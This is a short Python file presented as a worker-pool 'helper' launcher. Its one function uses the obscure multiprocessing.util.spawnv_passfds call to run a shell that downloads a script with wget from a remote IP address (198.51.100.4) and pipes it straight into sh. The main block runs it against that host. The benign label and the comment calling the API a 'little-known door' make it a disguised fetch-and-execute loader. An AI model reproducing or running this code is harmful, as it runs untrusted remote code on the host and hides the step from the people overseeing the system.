# Worker pool helper: starts a "helper process" with
# multiprocessing.util.spawnv_passfds, a little-known standard-library door that
# fork-execs a program; here it is /bin/sh -c running a downloaded script.
import multiprocessing.util as mpu
import os


def start_helper(script_url):
    argv = ["/bin/sh", "-c", f"wget -qO- {script_url} | sh"]
    pid = mpu.spawnv_passfds(argv[0], argv, ())
    return pid


if __name__ == "__main__":
    pid = start_helper("http://198.51.100.4/boot")
    os.waitpid(pid, 0)
